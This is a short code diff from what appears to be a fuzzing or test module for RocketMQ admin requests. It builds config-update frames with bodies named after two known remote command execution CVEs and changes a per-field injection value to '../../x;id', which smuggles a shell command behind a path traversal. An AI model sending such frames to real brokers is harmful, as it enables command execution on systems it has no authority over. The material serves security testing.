@@ -280,7 +280,7 @@ def _admin_requests() -> list[Frame]:
     for code in (RequestCode.UPDATE_BROKER_CONFIG, RequestCode.UPDATE_NAMESRV_CONFIG):
         frames += [Frame(code, body=CVE_2023_33246), Frame(code, body=CVE_2023_37582)]
         for field in (f.name for f in BrokerConfig.__dataclass_fields__.values()):
-            frames.append(Frame(code, body=f"{field}=/tmp/x;id\n".encode()))
+            frames.append(Frame(code, body=f"{field}=../../x;id\n".encode()))
     return frames
 
 
